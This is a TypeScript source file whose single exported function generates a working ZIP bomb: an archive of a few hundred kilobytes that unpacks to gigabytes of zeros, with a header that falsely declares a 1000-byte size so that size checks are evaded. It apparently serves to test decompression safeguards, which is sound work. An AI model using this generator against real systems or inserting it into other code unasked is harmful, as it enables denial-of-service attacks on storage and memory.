import { constants, crc32, deflateRawSync } from 'node:zlib';

const pieceSize = 16 * 1024 * 1024;

/**
 * An archive (ZIP) with one entry that unpacks to so many gigabytes of nothing, and is a few hundred kilobytes
 * itself; it says of itself that it is small.
 */
export function zipBomb(entry: string, gigabytes: number): Buffer<ArrayBuffer> {
  // Each piece is whole in itself, so that one stands for all of them.
  const piece = deflateRawSync(Buffer.alloc(pieceSize), { finishFlush: constants.Z_FULL_FLUSH });
  const pieces = Array.from({ length: (gigabytes * 1024 ** 3) / pieceSize }, () => piece);
  const packed = Buffer.concat([...pieces, deflateRawSync(Buffer.alloc(0))]);
  const name = Buffer.from(entry);
  const about = Buffer.alloc(26);
  about.writeUInt16LE(20, 0);
  about.writeUInt16LE(8, 4);
  about.writeUInt32LE(crc32(Buffer.alloc(1000)), 10);
  about.writeUInt32LE(packed.length, 14);
  about.writeUInt32LE(1000, 18);
  about.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), about, name, packed]);
  const place = Buffer.alloc(14);
  const directory = Buffer.concat([
    ...[Buffer.from('PK\x01\x02', 'latin1'), Buffer.from([20, 0]), about, place, name],
  ]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, directory, Buffer.from('PK\x05\x06', 'latin1'), end]);
}
